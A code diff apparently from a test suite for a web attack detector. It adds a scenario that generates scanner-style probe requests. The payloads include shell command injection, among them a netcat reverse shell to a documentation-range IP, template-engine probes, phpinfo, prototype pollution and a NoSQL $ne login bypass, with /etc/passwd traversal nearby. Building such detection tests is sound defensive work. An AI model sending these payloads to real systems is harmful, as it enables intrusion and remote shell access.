@@ -1628,6 +1628,18 @@ def a_sqli_spellings(ctx: Ctx) -> Traffic:
     return few(ctx, [(f"/items?id={quote(q)}", "python-requests/2.31.0") for q in qs])
 
 
+def a_command_and_template_injection(ctx: Ctx) -> Traffic:
+    """What a scanner's injection pass sends besides SQL: shell commands after an address or in a
+    substitution, the template engines' arithmetic probes, PHP's info call, a prototype-pollution key, a
+    NoSQL operator on a password; each once, a minute apart (unrouted, 404)."""
+    qs = ["/v1/ping?host=" + quote("127.0.0.1;id"), "/v1/ping?host=" + quote("$(whoami)"),
+          "/v1/ping?host=" + quote("x|nc -e /bin/sh 203.0.113.5 4444"), "/v1/render?name=" + quote("{{7*7}}"),
+          "/v1/render?name=" + quote("${7*7}"), "/v1/render?name=" + quote("<%= 7*7 %>"),
+          "/v1/page?q=" + quote(";phpinfo();"), "/v1/settings?__proto__[admin]=1",
+          "/v1/login?username=admin&password[$ne]=x"]  # fmt: skip
+    return few(ctx, [(p, "python-requests/2.31.0") for p in qs])
+
+
 def a_traversal_spellings(ctx: Ctx) -> Traffic:
     ps = [
         "/files/..%c0%af..%c0%af..%c0%afetc/passwd",
@@ -2434,6 +2446,14 @@ SCENARIOS: list[Scenario] = [
     ),
     Scenario(
         "padded-scanner-agent", A, "standard", "a nuclei agent padded past 16 KiB", a_padded_scanner, ("D1",)
+    ),
+    Scenario(
+        "command-and-template-injection",
+        A,
+        "standard",
+        ";id, $(whoami), nc -e, {{7*7}}, ${7*7}, <%= 7*7 %>, phpinfo(), __proto__[...], password[$ne]",
+        a_command_and_template_injection,
+        ("D1",),
     ),
     Scenario(
         "sqli-spellings", A, "standard", "union/**/select, AND 1=1, pg_sleep(", a_sqli_spellings, ("D1",)
